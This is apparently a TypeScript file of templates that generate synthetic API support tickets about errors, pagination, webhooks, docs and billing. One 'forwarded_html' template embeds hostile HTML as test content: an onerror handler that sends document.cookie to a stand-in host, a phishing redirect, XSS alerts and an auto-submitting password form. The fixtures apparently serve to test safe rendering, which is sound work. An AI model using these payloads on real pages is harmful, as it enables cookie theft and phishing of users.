      notes: ['Escalated to L3 (ingestion team). Upstream schema change on video object.', 'Fix in review, ETA 1h.'],
      followUps: ['Any update? Still 502 on our side.', 'Confirmed working again on our side, thanks!'],
    };
  },
};

const internalAtScale: TicketTemplate = {
  id: 'internal_5xx_scale',
  weight: 6,
  type: 'incident',
  priority: P(45, 35, 10, 0, 10),
  errorCode: 'INTERNAL',
  compose(ctx) {
    const { rng } = ctx;
    const rid = requestId(rng);
    const rate = rng.int(8, 45);
    const volume = rng.pick(['2M', '500k', '900k', '3.5M', '1.1M']);
    const subject = rng.pick([
      `500 Internal server error on /userinfo-by-username/ at scale`,
      `/userinfo-by-username/ returning ${rate}% 500s`,
      `Spike of 500 errors on /userinfo-by-username/`,
      `Internal server error for batches above ${rng.pick([200, 500, 1000])} usernames`,
      `P1: 5xx on /userinfo-by-username/ since ${when(ctx, rng.int(10, 120)).slice(11, 16)} UTC`,
    ]);
    const body = [
      p(`We run about ${volume} lookups a day on /userinfo-by-username/. Since ${when(ctx, rng.int(10, 120))} around ${rate}% of them fail with 500 "Internal server error". Smaller batches seem fine.`),
      code(
        [`$ grep ' 500 ' access.log | tail -4`]
          .concat(Array.from({ length: 4 }, () => `${when(ctx, rng.int(0, 30))} GET /userinfo-by-username/?username=${handle(rng)} 500 ${rng.int(80, 900)}ms ${requestId(rng)}`))
          .join('\n'),
      ),
      code(errorBody(500, 'INTERNAL', 'Internal server error', rid)),
      p(rng.pick(['This is hitting our production workload hard.', 'We are an enterprise customer and this is business critical.', 'Please treat as urgent.'])),
    ];
    return {
      subject: subjectDecor(ctx, subject, true),
      blocks: letter(ctx, body),
      tags: ['api', '500', 'p1', 'userinfo', 'incident'],
      agentReplies: [`Hi ${ctx.firstName}, thank you, we reproduced it: a subset of requests to /userinfo-by-username/ fail under load on one shard. This is escalated to engineering as a P1 and I'll update you every hour.`],
      resolutions: ['Engineering rolled out a fix for the failing shard; your error rate has been at 0% for two hours. Solving this ticket. A post-mortem will follow.'],
      notes: [`Escalated L3: shard ${rng.int(1, 12)} connection pool exhaustion.`, 'Hourly update sent to customer.'],
      followUps: ['Any update? Still failing.', `Error rate now ${Math.max(1, Math.floor(rate / 3))}%, better but not fixed.`, 'Confirmed resolved on our side.'],
    };
  },
};

const unavailable: TicketTemplate = {
  id: 'unavailable',
  weight: 3,
  type: 'incident',
  priority: P(40, 40, 10, 0, 10),
  errorCode: 'UNAVAILABLE',
  compose(ctx) {
    const { rng } = ctx;
    const rid = requestId(rng);
    const subject = rng.pick(['Is the API down? 503 Service unavailable', '503 Service unavailable on all endpoints', 'API outage?', `Everything returns 503 since ${when(ctx, rng.int(5, 40)).slice(11, 16)} UTC`]);
    const body = [
      p(`All our requests return 503 "Service unavailable" since ${when(ctx, rng.int(5, 40))}. Status page says all systems operational.`),
      code(responseDump(503, 'Service Unavailable', { 'content-type': 'application/json', 'x-request-id': rid }, errorBody(503, 'UNAVAILABLE', 'Service unavailable', rid))),
    ];
    return {
      subject: subjectDecor(ctx, subject, true),
      blocks: letter(ctx, body),
      tags: ['api', '503', 'p1', 'outage'],
      agentReplies: [`Hi ${ctx.firstName}, yes, we had a partial outage after a deploy; it is rolled back and requests are recovering. Details on ${STATUS_PAGE}.`],
      resolutions: ['The incident is resolved and the post-mortem is on the status page. Solving this ticket.'],
      notes: ['Deploy rollback at the time of the report. Linked to incident.'],
      followUps: ['Back up for us, thanks.', 'Why was the status page green?'],
    };
  },
};

const payloadChange: TicketTemplate = {
  id: 'payload_field_change',
  weight: 6,
  type: 'problem',
  priority: P(5, 30, 45, 10, 10),
  errorCode: null,
  compose(ctx) {
    const { rng } = ctx;
    const field = rng.pick(['stats.play_count', 'author.follower_count', 'music.title', 'video.duration', 'stats.share_count', 'create_time']);
    const subject = rng.pick([
      `/post-detail/ no longer returns ${field}`,
      `Field ${field} is null since yesterday`,
      `Breaking change in /post-detail/ payload?`,
      `${field} changed type (string instead of number)`,
      `/post-detail/ response shape changed without notice`,
    ]);
    const before = JSON.stringify({ id: `${rng.int(7000000, 7399999)}${rng.int(100000000000, 999999999999)}`, [field]: rng.int(1000, 9000000) }, null, 2);
    const after = JSON.stringify({ id: 'same', [field]: rng.chance(0.5) ? null : String(rng.int(1000, 9000000)) }, null, 2);
    const body = [
      p(`Our parser started failing on /post-detail/ responses. The field ${field} ${rng.pick(['is missing', 'is null', 'changed from a number to a string'])} since ${when(ctx, rng.int(300, 2000))}.`),
      p('Before:'),
      code(before),
      p('Now:'),
      code(after),
      p(rng.pick(['Was this announced somewhere? We could not find it in the changelog.', 'Is this intended? Our reports show zeros now.', 'Please let us know if this will stay like that.'])),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['api', 'upstream', 'payload', 'post_detail'],
      agentReplies: [`Hi ${ctx.firstName}, the upstream platform stopped exposing ${field} for some posts; we pass it through as null rather than failing the whole call. Engineering is checking whether we can restore it from another source.`],
      resolutions: [`${field} is populated again since today's release, and the changelog (${DOCS_BASE}/changelog) now mentions the interim nulls. Solving this ticket.`],
      notes: ['Known upstream change, tracked with ingestion team.'],
      followUps: ['OK, we now handle null. Please let us know when it is back.', 'Thanks, I see the values again.'],
    };
  },
};

const howToPagination: TicketTemplate = {
  id: 'howto_pagination',
  weight: 6,
  type: 'question',
  priority: P(0, 2, 35, 53, 10),
  errorCode: null,
  compose(ctx) {
    const { rng } = ctx;
    const h = handle(rng);
    const subject = rng.pick([
      'How does pagination work on /user-posts/?',
      '/user-posts/ only returns 30 posts',
      'Cursor on /user-posts/ returns the same page twice',
      'Getting all posts of an account (more than 1,000)',
      'has_more is true but next cursor is empty',
    ]);
    const body = [
      p(`I'm trying to fetch all posts for ${h} with /user-posts/ but I only ever get the first ${rng.pick([30, 35, 50])}. I pass the cursor from the previous response but ${rng.pick(['get the same page back', 'the results stop after page 3', 'has_more stays true forever'])}.`),
      code(requestSnippet(ctx, '/user-posts/', `username=${h}&count=30&cursor=${rng.int(1600000000000, 1700000000000)}`)),
      code(JSON.stringify({ data: ['... 30 posts ...'], cursor: String(rng.int(1600000000000, 1700000000000)), has_more: true }, null, 2)),
      p('What is the right way to page through everything?'),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['api', 'how_to', 'pagination'],
      agentReplies: [`Hi ${ctx.firstName}, on /user-posts/ you pass the cursor value from each response into the next request unchanged, and stop when has_more is false. The cursor is a timestamp-like value, so do not increment it yourself. There's an example in ${DOCS_BASE}/endpoints/user-posts#pagination.`],
      resolutions: ['Glad the loop works now. Solving; reply if you need more help.'],
      notes: ['Docs example for cursor loop could use a Python version.'],
      followUps: ['That worked, I was parsing the cursor as an int and losing precision. Thanks!'],
    };
  },
};

const howToWebhooks: TicketTemplate = {
  id: 'howto_webhooks',
  weight: 4,
  type: 'question',
  priority: P(0, 2, 30, 58, 10),
  errorCode: null,
  compose(ctx) {
    const { rng } = ctx;
    const accounts = rng.int(200, 5000);
    const every = rng.pick([5, 10, 15, 30]);
    const subject = rng.pick([
      'Do you support webhooks for new posts?',
      'Webhook when a tracked account posts?',
      'Push notifications instead of polling /user-posts/?',
      'Webhook signature verification',
      `Alternative to polling ${accounts} accounts every ${every} min?`,
      `Change feed for /user-posts/ (${accounts} accounts)`,
    ]);
    const body = [
      p(`We poll /user-posts/ for ${accounts} accounts every ${every} minutes to detect new posts. That burns a lot of credits. Do you offer webhooks or some kind of change feed?`),
      p(rng.pick(['If yes, how are webhook payloads signed?', 'We would be happy to beta test.', 'Is this on the roadmap?'])),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['how_to', 'webhooks', 'feature_request'],
      agentReplies: [`Hi ${ctx.firstName}, webhooks are in private beta for Growth and Enterprise plans. Payloads are signed with HMAC-SHA256 in the X-Signature header. I've added ${ctx.company} to the beta list.`],
      resolutions: ['You have access to the webhook beta now; docs are in your dashboard. Solving this ticket.'],
      notes: ['Added to webhook beta waitlist.'],
      followUps: ['Great, thanks! When will it be GA?'],
    };
  },
};

const docsFeedback: TicketTemplate = {
  id: 'docs_feedback',
  weight: 4,
  type: 'task',
  priority: P(0, 0, 25, 65, 10),
  errorCode: null,
  compose(ctx) {
    const { rng } = ctx;
    const ep = rng.pick(ENDPOINTS);
    const subject = rng.pick([
      `Docs for ${ep} are out of date`,
      `Typo in the ${ep} example`,
      'Error code table missing 402',
      `Docs say ${ep} is GET but example uses POST`,
      `OpenAPI spec does not match ${ep} responses`,
      `${LANG_LABEL[ctx.stack]} example for ${ep} is broken`,
      `Rate limit table in the docs is wrong for ${ctx.plan}`,
    ]);
    const body = [
      p(`Small thing: the documentation page for ${ep} (${DOCS_BASE}/endpoints${ep}) ${rng.pick(['shows a response field that no longer exists', 'has an example that returns 422', 'does not mention the count parameter limit', 'lists the wrong rate limit for our plan'])}.`),
      p(rng.pick(['Took us an hour to figure out.', 'Just letting you know.', 'Happy to send a PR if the docs are on GitHub.'])),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['docs', 'feedback'],
      agentReplies: [`Thanks a lot for the report, ${ctx.firstName}! I've passed it to the docs team.`],
      resolutions: ['The docs page is updated. Thanks again, solving this ticket.'],
      notes: ['Docs issue filed.'],
      followUps: ['Thanks!'],
    };
  },
};

const billingInvoice: TicketTemplate = {
  id: 'billing_invoice',
  weight: 3,
  type: 'task',
  priority: P(0, 5, 40, 45, 10),
  errorCode: null,
  compose(ctx) {
    const { rng } = ctx;
    const month = new Date(ctx.at).toLocaleString('en-US', { month: 'long', timeZone: 'UTC' });
    const nextPlan = ctx.plan === 'free' ? 'starter' : ctx.plan === 'starter' ? 'growth' : 'enterprise';
    const subject = rng.pick([
      `${month} invoice needs our VAT number`,
      `Upgrade from ${ctx.plan} to ${nextPlan} mid-cycle?`,
      `Charged twice in ${month}`,
      'Need a W-9 / vendor form',
      `Downgrade request for ${ctx.customerId}`,
      `Invoice address change (${ctx.customerId})`,
      `Annual billing for the ${nextPlan} plan?`,
    ]);
    const body = [
      p(`${rng.pick(['Our finance team asks', 'Quick billing question', 'Accounting flagged something'])}: ${subject.toLowerCase()}. Customer ID ${ctx.customerId}, current plan ${ctx.plan}.`),
      p(rng.pick(['Could you send a corrected invoice?', 'What are the options?', 'Please advise.'])),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['billing'],
      agentReplies: [`Hi ${ctx.firstName}, I've forwarded this to our billing team, they'll follow up here within one business day.`],
      resolutions: ['Billing sent the corrected invoice to your finance contact. Solving this ticket.'],
      notes: ['Forwarded to billing@.'],
      followUps: ['Thank you!'],
    };
  },
};

const hostileForward: TicketTemplate = {
  id: 'forwarded_html',
  weight: 2,
  type: 'problem',
  priority: P(5, 25, 50, 10, 10),
  errorCode: 'RATE_LIMITED',
  compose(ctx) {
    const { rng } = ctx;
    const rid = requestId(rng);
    const subject = rng.pick(['Fwd: Alert: API error rate above threshold', 'FW: [Monitoring] 429 Rate limit exceeded alerts', 'Fwd: Daily integration report - failures']);
    const body: Block[] = [
      p(`Forwarding the alert our monitoring sent this morning. We keep getting "Rate limit exceeded" from ${API_BASE}/user-posts/ even at low volume.`),
      quote(`From: alerts@${ctx.company.toLowerCase().replace(/[^a-z0-9]+/g, '')}.test\nSubject: Alert: API error rate above threshold\n\n${rng.int(120, 900)} requests failed with 429 in the last hour (request ${rid}).`),
      code(errorBody(429, 'RATE_LIMITED', 'Rate limit exceeded', rid)),
      {
        kind: 'rawHtml',
        html: rng.pick([
          `<img src="https://tracking.mailer.test/open/${rng.hex(12)}.gif" width="1" height="1" onerror="fetch('https://collect.mailer.test/?c='+document.cookie)">`,
          `<script>window.location='https://phish.mailer.test/login?u=${ctx.firstName.toLowerCase()}'</script>`,
          `<a href="javascript:alert(document.domain)">View this alert in your browser</a><img src=x onerror="alert('xss')">`,
          `<form action="https://phish.mailer.test/collect" method="post"><input name="password" placeholder="Confirm your password"></form><script>document.forms[0].submit()</script>`,
        ]),
        plain: '[View this alert in your browser]',
      },
    ];
    return {
      subject: `${subject} - ${shortCompany(ctx)}`,
      blocks: letter(ctx, body),
      tags: ['api', 'rate_limit', '429', 'forwarded'],
      agentReplies: [`Hi ${ctx.firstName}, thanks for forwarding. The 429s come from a retry burst at the top of each hour; spreading the job over the hour should fix it.`],
      resolutions: ['Spreading the job fixed the alerts. Solving this ticket.'],
      notes: ['Forwarded mail contained tracking/script content; nothing to action.'],
      followUps: ['We spread it out, alerts are gone. Thanks.'],
    };
  },
};

export const TEMPLATES: readonly TicketTemplate[] = [
  missingKey,
  invalidKey,
  planForbidden,
  rateLimitBackfill,
  retryLoop,
  creditsExhausted,
  validationUsername,
  validationUrl,
  notFound,
  upstreamTimeout,
  schemaChanged,
  internalAtScale,
  unavailable,
  payloadChange,
  howToPagination,
  howToWebhooks,
  docsFeedback,
  billingInvoice,
  hostileForward,
];

const BY_ID = new Map(TEMPLATES.map((t) => [t.id, t]));

export function templateById(id: string): TicketTemplate {
  const t = BY_ID.get(id);
  if (!t) throw new Error(`unknown ticket template ${id}`);
  return t;
}

/** Template weights as a table for Rng.weighted. */
export const TEMPLATE_WEIGHTS: Readonly<Record<string, number>> = Object.fromEntries(TEMPLATES.map((t) => [t.id, t.weight]));

/** Customer replies the activity timer posts on open tickets, whatever the template. */
export const GENERIC_FOLLOW_UPS: readonly string[] = [
  'Any update on this? It is still happening on our side.',
  'Just checking in, this is still blocking us.',
  'We deployed the suggested change, results so far look better. Will report back tomorrow.',
  'Still seeing it. Another example request id: REQ.',
  'Adding my colleague in CC, they own the integration.',
  'Could we get a call on this? Our team lead would like to join.',
  'FYI the errors went away for an hour and came back.',
  'Thanks for looking into it. Let me know if you need more logs.',
];
